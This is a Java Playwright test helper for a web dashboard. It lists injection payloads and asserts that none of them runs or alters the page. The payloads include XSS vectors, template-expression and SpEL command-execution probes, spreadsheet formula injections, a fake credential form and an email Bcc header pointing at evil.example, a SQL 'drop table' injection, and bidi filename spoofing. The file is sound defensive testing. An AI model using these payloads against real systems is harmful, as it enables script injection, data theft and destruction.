package io.tillstream.dashboards.hostile;

import static org.assertj.core.api.Assertions.assertThat;

import com.microsoft.playwright.Page;
import java.util.ArrayList;
import java.util.List;

/** Texts that would do something if a page, a file or a letter took them for more than texts, and a page watched for it. */
final class HostileTexts {
    /** Whatever one of these brings into a page is of the class {@code injected}. */
    static final List<String> ALL = List.of(
            "<script class=injected>alert('script')</script>",
            "\"><img class=injected src=x onerror=alert('img')>",
            "' class='injected' onmouseover='alert(1)' x='",
            "\" class=\"injected\" autofocus onfocus=\"alert(1)\" x=\"",
            "<svg class=injected onload=alert('svg')></svg>",
            "</title></style></textarea></select></script><iframe class=injected srcdoc='<script>parent.alert(1)</script>'>",
            "<button class=injected hx-post=/people/add hx-trigger=load>x</button>",
            "</option></select><form class=injected action=//evil.example method=post><input name=password></form>",
            "<a class=injected href=\"javascript:alert('a')\">milk</a>",
            "javascript:alert('address')",
            "${7*7} __${7*7}__::x *{7*7} #{7*7} [[${7*7}]] [(${7*7})] {{7*7}}",
            "T(java.lang.Runtime).getRuntime().exec('id')",
            "=HYPERLINK(\"//evil.example\",\"a\")",
            "+1+cmd|' /C calc'!A0",
            "\t@SUM(1+1)*cmd|' /C calc'!A0",
            "line\r\nBcc: everybody@evil.example\r\n\r\n<b class=injected>end</b>",
            "' or '1'='1'; drop table person; --",
            "\u202Egpj.klim\u2066\u2067\u200F before",
            "W".repeat(120));

    private final List<String> dialogs = new ArrayList<>();
    private final List<String> refused = new ArrayList<>();
    private final Page page;

    HostileTexts(Page page) {
        this.page = page;
        page.onDialog(dialog -> {
            dialogs.add(dialog.message());
            dialog.dismiss();
        });
        page.onConsoleMessage(message -> {
            if (message.text().contains("Content Security Policy")) {
                refused.add(message.text());
            }
        });
    }

    /** Of what was seen until now, nothing counts. */
    void forget() {
        page.waitForTimeout(200);
        dialogs.clear();
        refused.clear();
    }

    /** Nothing ran, nothing was even tried, and nothing came into the page, which is still of this app. */
    void didNothing(String address, String where) {
        assertThat(page.locator(".injected").count()).as(where).isZero();
        assertThat(page.evaluate("""
                        Array.from(document.querySelectorAll('*')).filter(one => Array.from(one.attributes)
                            .some(each => each.name.startsWith('on') || /^\\\\s*javascript:/i.test(each.value)
                                && ['href', 'src', 'action', 'formaction', 'hx-get', 'hx-post'].includes(each.name)))
                            .map(one => one.outerHTML)""")).as(where).isEqualTo(List.of());
        assertThat(page.locator("iframe, object, embed, script:not([src]), form[action*='evil']")
                        .count())
                .as(where)
                .isZero();
        assertThat(page.innerText("body")).as(where).doesNotContain("49 __", "[[49]]", "{{49}}", "__49__");
        assertThat(page.url()).as(where).startsWith(address);
        assertThat(dialogs).as(where).isEmpty();
        assertThat(refused).as(where).isEmpty();
    }
}
